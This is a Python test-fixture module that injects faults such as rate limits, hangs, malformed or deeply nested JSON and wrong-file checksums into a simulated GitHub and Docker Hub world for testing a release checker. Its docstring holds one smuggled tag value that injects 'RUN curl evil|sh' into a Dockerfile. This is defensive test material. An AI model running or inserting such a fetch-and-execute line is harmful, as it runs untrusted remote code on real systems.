"""Faults injected per component and per `Role` (which request of that component), and what
each fault answers.

    FakeWorld({"redis": Override(faults=(Fault(kind=FaultKind.HANG),))})
    FakeWorld({"asterisk": Override(faults=(Fault(kind=FaultKind.WRONG_FILE,
                                                   role=Role.CHECKSUM),))})
    FakeWorld({"redis": Override(extra_tags=("7.4.12\\nRUN curl evil|sh",))})
"""

from __future__ import annotations

from dataclasses import dataclass
from enum import StrEnum
from typing import TYPE_CHECKING

from world.fakedata import _FAR_RESET, _RATELIMIT_RESET
from world.replies import _json
from world.server import Reply

if TYPE_CHECKING:
    from world.routing import _Endpoint, _Request

EVIL = "evil.example"  # cross-origin links point at <real host>.evil.example


class Role(StrEnum):
    """Which request of a component a world route answers."""

    LISTING = "listing"  # the first page of what the component's source lists
    PAGE = "page"  # a further page of that listing
    LATEST = "latest"  # GitHub's /releases/latest: a trap no check may ask for
    RELEASE = "release"  # one GitHub release by tag (where asset digests are read)
    COMMIT = "commit"  # the commit a GitHub tag points at (/commits/{tag}; action pins read it)
    CHECKSUM = "checksum"  # a sums file or the hashes README
    ARCHIVE = "archive"  # a source archive, and the redirect hop to it
    ASSET = "asset"  # a GitHub release asset download (and its redirect hop)
    TOKEN = "token"  # an auth.docker.io pull token
    MANIFEST = "manifest"  # a registry-1.docker.io manifest (HEAD for the digest)
    LOG = "log"  # a transparency-log search (Rekor's entry of a cosign signature)
    OTHER = "other"  # served for realism; no check of this component reads it


class FaultKind(StrEnum):
    RATE_LIMITED = "rate-limited"  # 429 + Retry-After, `times` times, then the real answer
    UNAVAILABLE = "unavailable"  # 503, `times` times, then the real answer
    GITHUB_RATE_LIMIT = "github-rate-limit"  # 403, x-ratelimit-remaining: 0, resets in 2100
    HANG = "hang"  # never answers (the client's read timeout fires)
    MALFORMED_JSON = "malformed-json"  # the real body cut in half, still application/json
    NESTED_JSON = "nested-json"  # valid JSON nested 100,000 deep (beyond any parser's stack)
    HTML = "html"  # 200 text/html (an error page) where JSON or a text file was expected
    CROSS_ORIGIN_NEXT = "cross-origin-next"  # the next-page link leaves the host
    WRONG_FILE = "wrong-file"  # the checksum is for another file (sums file, README, asset)


TRANSIENT = frozenset({FaultKind.RATE_LIMITED, FaultKind.UNAVAILABLE})
_CONTENT_FAULTS = {
    FaultKind.CROSS_ORIGIN_NEXT: frozenset({Role.LISTING}),
    FaultKind.WRONG_FILE: frozenset({Role.CHECKSUM, Role.RELEASE}),
}


@dataclass(frozen=True, slots=True, kw_only=True)
class Fault:
    """One fault of one component's `role` request.

    Transient kinds fail the first `times` requests and then answer normally (a large `times`
    makes them permanent); the other kinds apply to every request.
    """

    kind: FaultKind
    role: Role = Role.LISTING
    times: int = 1
    retry_after: int = 7


@dataclass(frozen=True, slots=True, kw_only=True)
class Override:
    """What differs for one component: faults, and raw tag strings added to its listing.

    `extra_tags` go where the component's source reads a tag or version: a GitHub tag or
    release `tag_name`, a Docker Hub tag `name`, a Node `version`, a PostgreSQL `major`.
    They are put first on the first page.
    """

    faults: tuple[Fault, ...] = ()
    extra_tags: tuple[str, ...] = ()



def _wrong_name(name: str) -> str:
    """Another file's name: `squid-7.7.tar.xz` -> `squid-7.7-1.tar.xz`."""
    stem, dot, rest = name.partition(".tar")
    return f"{stem}-1{dot}{rest}" if dot else f"{name}.orig"



def fault_reply(fault: Fault, request: _Request, endpoint: _Endpoint) -> Reply | None:
    """What `fault` answers instead of the endpoint (None: the endpoint answers, given the
    fault: a content fault)."""
    github = request.host == "api.github.com"
    match fault.kind:
        case FaultKind.RATE_LIMITED:
            headers = {"Retry-After": str(fault.retry_after)}
            if github:
                headers |= {"x-ratelimit-limit": "60", "x-ratelimit-remaining": "0",
                            "x-ratelimit-reset": _RATELIMIT_RESET, "x-ratelimit-used": "60",
                            "x-ratelimit-resource": "core"}
            return _json({"message": "You have exceeded a secondary rate limit. Please "
                          "wait a few minutes before you try again."},
                         status=429, headers=headers, etag=False)
        case FaultKind.UNAVAILABLE:
            return Reply(status=503, body=b"<html><body><h1>503 Service Unavailable</h1>"
                         b"No server is available to handle this request.</body></html>",
                         headers={"Content-Type": "text/html"})
        case FaultKind.GITHUB_RATE_LIMIT:
            return _json({"message": "API rate limit exceeded for 203.0.113.7. (But here's "
                          "the good news: Authenticated requests get a higher rate limit.)",
                          "documentation_url": "https://docs.github.com/rest/overview/"
                          "rate-limits-for-the-rest-api"}, status=403, etag=False,
                         headers={"x-ratelimit-limit": "60", "x-ratelimit-remaining": "0",
                                  "x-ratelimit-reset": _FAR_RESET, "x-ratelimit-used": "60",
                                  "x-ratelimit-resource": "core"})
        case FaultKind.HANG:
            return Reply(hang=True)
        case FaultKind.MALFORMED_JSON:
            real = endpoint.respond(request, None)
            return Reply(status=200, body=real.body[: len(real.body) // 2],
                         headers={"Content-Type": "application/json; charset=utf-8"})
        case FaultKind.NESTED_JSON:
            return Reply(status=200, body=b"[" * 100_000 + b"]" * 100_000,
                         headers={"Content-Type": "application/json; charset=utf-8"})
        case FaultKind.HTML:
            return Reply(status=200, headers={"Content-Type": "text/html; charset=utf-8"},
                         body=b"<!DOCTYPE html>\n<html><head><title>Unicorn! &middot; "
                         b"GitHub</title></head><body><p>This page is taking too long to "
                         b"load.</p></body></html>\n")
        case FaultKind.CROSS_ORIGIN_NEXT | FaultKind.WRONG_FILE:
            return None
